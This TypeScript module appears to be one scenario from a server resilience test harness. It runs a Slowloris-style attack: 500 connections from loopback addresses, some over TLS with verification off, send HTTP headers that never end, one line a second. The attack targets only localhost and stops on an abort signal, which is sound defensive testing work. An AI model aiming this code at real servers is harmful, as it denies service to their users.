/** Requests whose headers never end. */

import { connect, type Socket } from "node:net";
import { connect as connectTls } from "node:tls";
import type { Attack } from "../attack.ts";

const connections = 500;
const addresses = 8;
const dripMs = 1_000;
const pauseMs = 20;
const head = "POST /rpc HTTP/1.1\r\nHost: localhost\r\n";

export const attack: Attack = {
  what: "500 connections from eight addresses send a header field a second, without end; half of them try TLS",
  run({ httpPort }, signal) {
    const open = new Set<Socket>();
    const again = (index: number) => {
      if (signal.aborted) return;
      const to = { host: "127.0.0.1", port: httpPort, localAddress: `127.0.2.${index % addresses + 1}` };
      const plain = connect(to);
      const socket = index % 2 === 0 ? plain : connectTls({ socket: plain, rejectUnauthorized: false });
      open.add(plain);
      for (const each of new Set<Socket>([plain, socket])) each.on("error", () => {});
      socket.on(index % 2 === 0 ? "connect" : "secureConnect", () => socket.write(head));
      const drip = setInterval(() => void (socket.writable && socket.write("x-more: 1\r\n")), dripMs);
      plain.on("close", () => {
        clearInterval(drip);
        open.delete(plain);
        setTimeout(() => again(index), pauseMs);
      });
    };
    for (let index = 0; index < connections; index++) again(index);
    return new Promise((resolve) => {
      signal.addEventListener("abort", () => {
        for (const socket of open) socket.destroy();
        resolve();
      }, { once: true });
    });
  },
};
